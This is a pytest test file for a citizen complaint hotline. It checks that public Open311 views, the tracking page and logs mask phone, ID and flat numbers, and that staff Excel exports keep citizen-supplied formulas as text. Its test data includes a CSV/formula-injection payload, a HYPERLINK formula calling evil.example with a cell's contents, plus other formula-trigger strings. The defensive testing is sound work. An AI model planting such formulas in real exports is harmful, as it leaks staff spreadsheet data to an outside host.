"""What the public sees (Open311, the tracking page), what the logs keep and what staff open in
Excel: no phone, ID or card number in any spelling, no flat number, no formula from a citizen."""

from __future__ import annotations

import io
import logging
import re
import unicodedata
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from hotline.domain.lifecycle import State
from hotline.logging_masking import MaskPersonalData
from hotline.web.export import xlsx_response
from hotline.web.views.citizen import tracking_code
from hotline.workorders.services import workorder_reply
from tests.common.second_factor import force_login_verified
from tests.common.world import World

pytestmark = pytest.mark.django_db

# What a caller wrote into the request, in the spellings the old masker let through, and the
# digits each must not show.
SECRETS = {
    "138-0000-1111": "13800001111",
    "１３９ ００００ ２２２２": "13900002222",
    "+86 137 0000 3333": "13700003333",
    "0086-136-0000-4444": "13600004444",
    "(010) 6512 3456": "65123456",
    "110101 19900307 123X": "11010119900307123X",
}
TEXT = "夜间噪音扰民，请回电 " + "，".join(SECRETS) + "，邮箱 zhang.san@example.com"
REPLY = "已约谈施工方。来电人身份证 110101-19900307-123X，电话 138.0000.1111"
LOCATION = "和平里幸福家园16栋3085室"


def _no_secret_in(body: str) -> None:
    flat = re.sub(r"[\s\-.()+]", "", unicodedata.normalize("NFKC", body))
    for digits in SECRETS.values():
        assert digits not in flat, digits
    assert "zhang.san" not in body
    assert "3085" not in unicodedata.normalize("NFKC", body)  # the flat
    assert not re.search(r"[0-9]{11}", flat.replace("2026", "")), "an 11-digit run is left"


@pytest.fixture
def order(world: World) -> Any:
    order = world.walk(world.create(text=TEXT, location=LOCATION, channel="web"), State.HANDLING)
    workorder_reply(actor=world.handler_a, order=order, text=REPLY)
    return order


@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_open311_shows_no_number_and_no_flat(order: Any, fmt: str) -> None:
    for url in (f"/open311/v2/requests/{order.number}.{fmt}", f"/open311/v2/requests.{fmt}"):
        response = Client().get(url)
        assert response.status_code == 200
        body = response.content.decode()
        assert order.number in body and "幸福家园16栋" in body and "138" in body
        _no_secret_in(body.replace(order.number, ""))


def test_open311_request_reads_as_masked(order: Any) -> None:
    (request,) = Client().get(f"/open311/v2/requests/{order.number}.json").json()
    assert request["address"] == "和平里幸福家园16栋"
    assert "138-****-1111" in request["description"]
    assert "(010) **** 3456" in request["description"]
    assert "110101-********-123X" in request["status_notes"]


def test_the_tracking_page_shows_no_number_and_no_flat(order: Any) -> None:
    response = Client().get("/track/", {"code": tracking_code(order.number)})
    assert response.status_code == 200
    body = response.content.decode()
    assert "幸福家园16栋" in body and "已约谈施工方" in body
    _no_secret_in(body.replace(order.number, "").replace(tracking_code(order.number), ""))


def test_log_records_come_out_masked(world: World) -> None:
    stream = io.StringIO()
    for name in ("stderr", "console", "django.server", "mail_admins"):  # settings.LOGGING's
        handler = logging.getHandlerByName(name)
        assert handler is not None and any(isinstance(f, MaskPersonalData) for f in handler.filters)
    handler = logging.getHandlerByName("stderr")
    assert isinstance(handler, logging.StreamHandler)
    assert handler in logging.getLogger().handlers
    # Swapped by hand: setStream flushes the old stream, which pytest's capture may have closed.
    previous, handler.stream = handler.stream, stream
    try:
        logging.getLogger("hotline.test").warning("caller %s wrote %r", "138 0000 1111", TEXT)
        try:
            raise ValueError("bad phone 13900002222")
        except ValueError:
            logging.getLogger("waitress").exception("GET /track/?phone=13700003333")
    finally:
        handler.stream = previous
    written = stream.getvalue()
    assert "caller 138 **** 1111 wrote" in written
    assert "139****2222" in written and "137****3333" in written
    _no_secret_in(written)


def test_staff_exports_run_no_formula(world: World) -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A2,"点击")',
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ]
    response = xlsx_response("x.xlsx", "x", ["=header", "text"], [[text, text] for text in hostile])
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells] == ["=header", "text"] + [
        t for t in hostile for _ in "ab"
    ]
    assert all(cell.data_type == "s" for cell in cells)  # none is a formula ("f")
    assert all(cell.quotePrefix for cell in cells if str(cell.value)[0] in "=+-@\t\r")


def test_an_order_export_keeps_a_citizens_formula_as_text(world: World) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
    world.create(text=formula, location="@SUM(A1)")
    admin = force_login_verified(Client(), world.admin)
    export = admin.get("/orders/?export=xlsx")
    sheet = load_workbook(io.BytesIO(export.content)).active
    assert sheet is not None
    (row,) = [r for r in sheet.iter_rows(min_row=2) if r[4].value == formula]
    assert row[4].data_type == "s" and row[5].value == "@SUM(A1)" and row[5].data_type == "s"
